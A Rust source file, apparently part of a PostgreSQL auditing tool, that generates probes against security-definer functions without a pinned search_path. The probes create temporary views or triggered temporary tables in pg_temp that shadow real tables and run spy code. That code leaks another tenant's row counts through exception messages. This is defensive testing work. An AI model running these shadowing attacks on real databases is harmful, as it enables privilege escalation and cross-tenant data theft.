//! A function with its owner's rights that pins no search path finds the caller's temporary objects first: a view or a table
//! of the name it means runs the attacker's code with the owner's rights.

use guardian_postgres::quote;

use super::{Field, code};
use crate::attacks::{
    attack::{Attack, Control, Kind, Success},
    canary::Tenant,
    session::Step,
};
use crate::facts::{Function, Relation};
use crate::finding::Object;

/// Names that are shadowed at once.
const TABLES_MAX: usize = 40;
/// How the attacker's code tells what it saw: an error's message gets out of any function.
const SAID: &str = "guardian probe saw";

pub(super) fn attacks(field: &Field<'_>, attacks: &mut Vec<Attack>) {
    let tables: Vec<&Relation> = field.tables().into_iter().take(TABLES_MAX).collect();
    let pins = |function: &Function| function.settings.iter().any(|setting| setting.starts_with("search_path="));
    for function in field.facts.functions.iter().filter(|one| code::is_called(field, one) && !pins(one)) {
        let Some(arguments) = code::argument_lists(field, function).into_iter().next() else { continue };
        let call = Step::Run(format!("SELECT * FROM {}", code::call(function, &arguments)));
        let owner = quote::ident(&field.facts.role_name(function.owner));
        let counts: Vec<String> = tables.iter().map(|table| format!("({})", field.count(table, Tenant::B))).collect();
        let sees =
            format!("SET LOCAL session_replication_role = 'origin'; SET LOCAL ROLE {owner}; SELECT {}", counts.join(" + "));
        for by in [views(&tables), tables_with_triggers(&tables)] {
            let steps = vec![Step::Enter(Tenant::A), Step::Run(spy(field, &tables)), Step::Run(by), call.clone()];
            // Where the owner itself sees nothing of B there is nothing to gain.
            let attack = Attack::new(Kind::Shadow, Object::function(function), steps, Success::Says(SAID))
                .only_control(Control::AdministratorRuns(sees.clone(), Success::Positive))
                .moot_without_control();
            attacks.push(attack.not_in_place("it makes temporary objects"));
        }
    }
}

/// The attacker's code, as a condition and as a trigger.
fn spy(field: &Field<'_>, tables: &[&Relation]) -> String {
    let queries: Vec<String> = tables.iter().map(|table| quote::literal(&field.count(table, Tenant::B))).collect();
    let body = format!(
        "DECLARE query text; seen bigint; BEGIN \
           FOREACH query IN ARRAY ARRAY[{}]::text[] LOOP \
             BEGIN EXECUTE query INTO seen; EXCEPTION WHEN OTHERS THEN seen := 0; END; \
             IF seen > 0 THEN RAISE EXCEPTION '{SAID} % as %', seen, current_user; END IF; \
           END LOOP;",
        queries.join(", ")
    );
    format!(
        "CREATE FUNCTION pg_temp.guardian_spy() RETURNS boolean LANGUAGE plpgsql AS $guardian_spy$ {body} RETURN true; END $guardian_spy$; \
         CREATE FUNCTION pg_temp.guardian_spy_trigger() RETURNS trigger LANGUAGE plpgsql AS $guardian_spy$ {body} RETURN NEW; END $guardian_spy$"
    )
}

fn views(tables: &[&Relation]) -> String {
    let views = tables.iter().map(|table| {
        let name = quote::ident(&table.name);
        format!("CREATE TEMP VIEW {name} AS SELECT (NULL::{}).* FROM (SELECT pg_temp.guardian_spy()) AS s OFFSET 0; GRANT ALL ON pg_temp.{name} TO PUBLIC", quote::qualified(&table.schema, &table.name))
    });
    once(tables, views.collect())
}

fn tables_with_triggers(tables: &[&Relation]) -> String {
    let made = tables.iter().map(|table| {
        let (name, like) = (quote::ident(&table.name), quote::qualified(&table.schema, &table.name));
        format!(
            "CREATE TEMP TABLE {name} AS SELECT (NULL::{like}).*; CREATE TRIGGER guardian_spy BEFORE INSERT OR UPDATE OR DELETE ON \
             pg_temp.{name} FOR EACH ROW EXECUTE FUNCTION pg_temp.guardian_spy_trigger(); GRANT ALL ON pg_temp.{name} TO PUBLIC"
        )
    });
    once(tables, made.collect())
}

/// Two schemas may have a table of the same name; one temporary object stands for both.
fn once(tables: &[&Relation], statements: Vec<String>) -> String {
    let first = |at: usize| tables.iter().position(|table| table.name == tables[at].name) == Some(at);
    let kept: Vec<String> = statements.into_iter().enumerate().filter(|(at, _)| first(*at)).map(|(_, sql)| sql).collect();
    kept.join("; ")
}
